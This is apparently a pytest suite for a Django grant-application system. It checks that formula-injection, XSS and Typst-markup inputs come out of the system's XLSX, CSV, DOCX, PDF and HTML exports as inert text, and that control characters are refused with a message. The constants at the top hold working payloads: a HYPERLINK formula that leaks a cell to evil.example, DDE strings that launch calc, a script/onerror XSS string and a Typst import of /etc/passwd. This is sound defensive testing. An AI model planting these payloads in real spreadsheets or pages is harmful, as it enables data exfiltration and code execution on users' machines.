"""A hostile-input corpus pushed through the free-text fields of every role and then through every export.

Formulas (``=HYPERLINK…``, ``+cmd|…``, ``@SUM``, full-width ``＝``), emoji, a 3,000-character unbroken string,
Typst markup and HTML/script markup are *kept as typed* and come out of every XLSX as string cells (never a
formula), of every CSV neutralised, of the DOCX and PDF printed literally, and of every page escaped. Control
characters (NUL, other C0, a bidi override) are *refused* with a clear message at every field — never a 500,
on SQLite and on PostgreSQL (run this file with DATABASE_URL pointing at PostgreSQL too).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from pypdf import PdfReader

from tidu import testing as build
from tidu.accounts.models import Organisation
from tidu.applications import services as application_services
from tidu.applications.workflow import State
from tidu.core.cells import is_formula_like
from tidu.core.timezones import BEIJING
from tidu.dashboards import selectors as dashboards
from tidu.documents.models import DocumentJob
from tidu.experts import services as expert_services
from tidu.onsite.models import CheckItem
from tidu.publicity import services as publicity_services
from tidu.review.models import RecommendationList

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此核验")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
FULL_WIDTH = "＝1+1"
MINUS = "-2+3+cmd|' /C calc'!A0"
EMOJI = "智能工厂🏭✅👩‍🔧"
TYPST = '#set page(fill: red) #import "/etc/passwd": * ] [ $x^2$ *粗* _斜_ @ref <lbl> \\ #panic("x")'
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
LONG = "长" * 3000
KEPT = (HYPERLINK, DDE, AT_SUM, FULL_WIDTH, MINUS, EMOJI, TYPST, HTML)
REFUSED = ("前\x00后", "前\x0b\x01后", "前\u202e后", "前\x1b[31m后")

START = dt.date(2026, 4, 3)
BEFORE = dt.datetime(2026, 4, 2, 10, 0, tzinfo=BEIJING)
DURING = dt.datetime(2026, 4, 6, 10, 0, tzinfo=BEIJING)
AFTER = dt.datetime(2026, 4, 10, 9, 0, tzinfo=BEIJING)


@pytest.fixture(autouse=True)
def _private(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    settings.TIDU_NOW = ""


@pytest.fixture
def world():
    call = build.load_call()
    build.city_bureau()
    city = build.city_officer("city", "周敏")
    unit = build.unit("岳口镇", Organisation.Kind.TOWNSHIP)
    town = build.officer(unit, "town")
    company = build.enterprise(unit, HYPERLINK, contact_name=DDE)  # a registered name that is a formula
    owner = build.enterprise_user(company, "ent")
    application = build.application(company, call=call, user=owner)
    build.fill_complete_application(application, owner)
    texts = {
        "basic": {"competitiveness": f"{HTML}{TYPST}{EMOJI}"},
        "scope": {"project_name": DDE},
        "organisation": {"description": f"{FULL_WIDTH}{AT_SUM}"},
    }
    for key, changes in texts.items():
        section = application.sections.get(key=key)
        application_services.application_section_save(application=application, key=key,
                                                      data={**section.data, **changes},
                                                      base_revision=section.revision, user=owner)
    scenarios = application.sections.get(key="scenarios")
    rows = [{**row, "description": LONG if i == 0 else f"{TYPST}{HTML}"}
            for i, row in enumerate(scenarios.data["scenarios"])]
    application_services.application_section_save(application=application, key="scenarios",
                                                  data={**scenarios.data, "scenarios": rows},
                                                  base_revision=scenarios.revision, user=owner)
    build.submitted(application, user=owner, key="hostile", fill=False)
    build.transition(application, "township_recommend", "township", reason=f"{MINUS}{HTML}")
    build.put_on_sent_list(application, opinions={application.pk: f"{HYPERLINK}{TYPST}{HTML}"})  # the township's words
    build.transition(application, "city_receive", "city", reason=f"{TYPST}{EMOJI}")
    build.transition(application, "formal_pass", "city", reason=f"{AT_SUM}{HTML}")
    build.expert_reviewed(application, [build.expert("e1", profile=True)], city=city, comments=f"{HYPERLINK}{HTML}{TYPST}")
    build.drive_to(application, State.ONSITE_VERIFIED)
    return {"call": call, "city": city, "town": town, "owner": owner, "application": application, "unit": unit}


def assert_no_formula_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                seen.append(str(cell.value))
    return "\n".join(seen)


def assert_csv_neutralised(text: str):
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for field in row:
            assert not is_formula_like(field), field


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def pdf_text(content: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def test_every_export_keeps_hostile_text_inert(client, world):
    application, city, town = world["application"], world["city"], world["town"]

    client.force_login(city)
    xlsx = client.get(reverse("documents:summary_row_xlsx", args=[application.pk]))
    assert xlsx.status_code == 200
    cells = assert_no_formula_cells(body(xlsx))
    assert HYPERLINK in cells and DDE in cells

    docx = client.get(reverse("documents:application_docx", args=[application.pk]))
    assert docx.status_code == 200
    with zipfile.ZipFile(io.BytesIO(body(docx))) as archive:
        document = archive.read("word/document.xml").decode()
    assert "&lt;script&gt;" in document and "#set page(fill: red)" in document and "<script>" not in document

    for name in ("application_pdf", "summary_row_pdf"):
        response = client.get(reverse(f"documents:{name}", args=[application.pk]))
        assert response.status_code == 200, name
        text = pdf_text(body(response))
        assert "HYPERLINK" in text, name
    full = pdf_text(body(client.get(reverse("documents:application_pdf", args=[application.pk]))))
    assert "#set page" in full.replace("\n", "") and "<script>" in full.replace("\n", "")  # printed literally

    for url in (reverse("applications:review", args=[application.pk]),
                reverse("experts:review", args=[application.pk])):
        page = client.get(url).content.decode()
        assert page.count("<script") == page.count("<script src="), url  # no script but the site's own files
    assert "&lt;script&gt;" in client.get(reverse("applications:review", args=[application.pk])).content.decode()

    client.force_login(town)
    rlist = RecommendationList.objects.get(unit=world["unit"])
    listed = client.get(reverse("review:list_export", args=[rlist.pk, "xlsx"]))
    assert listed.status_code == 200
    assert HYPERLINK in assert_no_formula_cells(body(listed))
    assert client.get(reverse("review:list_export", args=[rlist.pk, "pdf"])).status_code == 200

    # The city's 汇总表 job (XLSX and PDF in a zip) carries the township's hostile words as text.
    client.force_login(city)
    client.post(reverse("documents:summary_export", args=[world["call"].pk]), {"format": "zip"})
    job = DocumentJob.objects.latest("pk")
    assert job.status == DocumentJob.Status.DONE, job.message
    with zipfile.ZipFile(io.BytesIO(body(client.get(reverse("documents:job_download", args=[job.pk]))))) as archive:
        names = archive.namelist()
        summary_cells = assert_no_formula_cells(archive.read(next(n for n in names if n.endswith(".xlsx"))))
        summary_pdf = pdf_text(archive.read(next(n for n in names if n.endswith(".pdf")))).replace("\n", "")
    assert HYPERLINK in summary_cells and "#set page" in summary_pdf and "HYPERLINK" in summary_pdf

    # Every dashboard table as CSV: neutralised cells.
    for key in dashboards.overview(world["call"]).tables:
        response = client.get(reverse("dashboards:table_csv") + f"?call={world['call'].code}&table={key}")
        assert response.status_code == 200, key
        assert_csv_neutralised(body(response).decode("utf-8-sig"))

    # 公示 with a hostile objection, then the public 认定名单 in CSV and XLSX.
    publicity = publicity_services.publicity_create(
        call=world["call"], user=city, title=f"公示{EMOJI}", start_date=START, working_days=3,
        short_period_reason=f"{HYPERLINK}{HTML}", contact_office=HTML, contact_phone="0728-5221234",
        contact_email="zxqk@example.gov.cn")
    publicity_services.publicity_add_entries(publicity=publicity, application_ids=[application.pk], user=city)
    publicity_services.publicity_publish(publicity=publicity, user=city, now=BEFORE)
    entry = publicity.entries.get()
    objection = publicity_services.objection_submit(
        publicity=publicity, entry=entry, name=HYPERLINK, phone="13907281234", email="", content=f"{TYPST}{HTML}",
        client_address="127.0.0.1", now=DURING)
    publicity_services.objection_handle(objection=objection, user=city, investigation=DDE, outcome="not_upheld",
                                        reply=AT_SUM)
    publicity_services.publicity_finalise(publicity=publicity, user=city, now=AFTER)
    client.logout()
    final_xlsx = client.get(reverse("publicity:final_xlsx", args=[publicity.pk]))
    assert final_xlsx.status_code == 200
    assert HYPERLINK in assert_no_formula_cells(body(final_xlsx))
    final_csv = client.get(reverse("publicity:final_csv", args=[publicity.pk]))
    assert final_csv.status_code == 200
    text = body(final_csv).decode("utf-8-sig")
    assert_csv_neutralised(text)
    assert "'" + HYPERLINK in text.replace('""', '"')
    public = client.get(reverse("publicity:public_detail", args=[publicity.pk])).content.decode()
    assert "<script>alert" not in public
    client.force_login(city)
    manage = client.get(reverse("publicity:manage_detail", args=[publicity.pk])).content.decode()
    assert "&lt;script&gt;" in manage and "<script>alert" not in manage  # the short-period reason, escaped


# --- control characters are refused at every field, with a message, never a 500 ----------------------------

@pytest.mark.parametrize("hostile", REFUSED)
def test_registration_refuses_control_characters(client, hostile):
    unit = build.unit("岳口镇", Organisation.Kind.TOWNSHIP)
    data = {"name": f"天门市{hostile}公司", "credit_code": build.valid_credit_code(), "legal_status": "legal_person",
            "industry_division": "C34", "industry_detail": "", "registered_region": "湖北省天门市",
            "address": hostile, "legal_representative": "胡建华", "contact_name": hostile,
            "contact_phone": "13907281234", "contact_email": "a@example.com", "unit": str(unit.pk),
            "username": "chutian", "password1": "Tianmen-Huachu-2026", "password2": "Tianmen-Huachu-2026"}
    response = client.post(reverse("enterprises:register"), data)
    assert response.status_code == 200
    assert response.content.decode().count("含有不可见的控制字符") >= 3


@pytest.mark.parametrize("hostile", REFUSED)
def test_every_role_gets_a_message_not_a_500(client, hostile):
    call = build.load_call()
    build.city_bureau()
    city = build.city_officer("city")
    unit = build.unit("岳口镇", Organisation.Kind.TOWNSHIP)
    town = build.officer(unit, "town")
    company = build.enterprise(unit, "天门市某机械有限公司")
    owner = build.enterprise_user(company, "ent")
    application = build.application(company, call=call, user=owner)
    pending = build.enterprise(unit, "天门市待确认有限公司", confirmed=False)

    client.force_login(owner)
    section = application.sections.get(key="organisation")
    for url in (reverse("applications:section", args=[application.pk, "organisation"]),
                reverse("applications:autosave", args=[application.pk, "organisation"])):
        response = client.post(url, {"base_revision": str(section.revision), "has_mechanism": "yes",
                                     "description": hostile, "talent_count": "3"})
        assert response.status_code < 500 and "控制字符" in response.content.decode(), url
    response = client.post(reverse("enterprises:my_enterprise"),
                           {"contact_name": hostile, "contact_phone": "13907281234", "contact_email": "a@b.cn"})
    assert response.status_code < 500 and "控制字符" in response.content.decode()

    build.fill_complete_application(application, owner)
    build.submitted(application, user=owner, key="k", fill=False)
    client.force_login(town)
    response = client.post(reverse("applications:review", args=[application.pk]),
                           {"action": "township_return", "reason": hostile, "reason-basic": hostile})
    assert response.status_code == 400 and "控制字符" in response.content.decode()
    response = client.post(reverse("enterprises:enterprise_reject", args=[pending.pk]), {"reason": hostile},
                           follow=True)
    assert response.status_code < 500 and "控制字符" in response.content.decode()

    client.force_login(city)
    for path in (reverse("review:intake") + "?q=" + hostile, reverse("enterprises:all_enterprises") + "?q=" + hostile):
        response = client.get(path)
        assert response.status_code == 400 and "控制字符" in response.content.decode(), path


@pytest.mark.parametrize("hostile", REFUSED[:2])
def test_expert_comments_and_onsite_findings_refuse_control_characters(client, hostile):
    call = build.load_call()
    build.city_bureau()
    city = build.city_officer("city")
    unit = build.unit("岳口镇", Organisation.Kind.TOWNSHIP)
    build.officer(unit, "town")
    company = build.enterprise(unit, "天门市某机械有限公司")
    owner = build.enterprise_user(company, "ent")
    application = build.application(company, call=call, user=owner)
    build.drive_to(application, State.FORMAL_PASSED)
    expert = build.expert("e1", profile=True)
    assignment = expert_services.assign_experts(application=application, user=city, experts=[expert])[0]
    client.force_login(expert)
    fields = {f"c-{pk}": points for pk, points in build.scores(assignment.rubric).items()}
    response = client.post(reverse("experts:score", args=[assignment.pk]),
                           {**fields, "comments": f"意见{hostile}", "action": "save"})
    assert response.status_code < 500 and "控制字符" in response.content.decode()
    assert f"意见{hostile}" in response.content.decode()  # what was typed is kept

    build.submit_scores(assignment)
    expert_services.review_complete(application=application, user=city,
                                    quorum_override_reason=build.SHORT_PANEL_REASON)
    build.deliver_pending()
    item = CheckItem.objects.filter(onsite_check__application=application).first()
    client.force_login(city)
    response = client.post(reverse("onsite:item", args=[item.pk]), {"result": "pass", "note": f"现场{hostile}"})
    assert response.status_code == 400 and "控制字符" in response.content.decode()


def test_onsite_findings_and_a_city_return_keep_hostile_text_inert(client):
    """What an inspector writes (formulas, markup, emoji, a long unbroken string) is kept as typed and shown as
    text on the check's page and on the application's record; a city's return reason likewise."""
    call = build.load_call()
    build.city_bureau()
    city = build.city_officer("city")
    unit = build.unit("岳口镇", Organisation.Kind.TOWNSHIP)
    build.officer(unit, "town")
    company = build.enterprise(unit, "天门市某机械有限公司")
    application = build.application(company, call=call, user=build.enterprise_user(company, "ent"))
    build.expert_reviewed(application, [build.expert("e1", profile=True)], city=city)
    item = CheckItem.objects.filter(onsite_check__application=application).first()
    note = f"{HYPERLINK}{HTML}{TYPST}{EMOJI}{LONG[:500]}"  # within the note limit
    client.force_login(city)
    response = client.post(reverse("onsite:item", args=[item.pk]), {"result": "mismatch", "note": note})
    assert response.status_code < 400
    item.refresh_from_db()
    assert item.note == note
    page = client.get(reverse("onsite:check", args=[item.onsite_check_id])).content.decode()
    assert "&lt;script&gt;" in page and page.count("<script") == page.count("<script src=")
    build.transition(application, "city_return", "city", reason=f"{DDE}{HTML}")
    record = client.get(reverse("applications:review", args=[application.pk])).content.decode()
    assert "&lt;script&gt;" in record and record.count("<script") == record.count("<script src=")
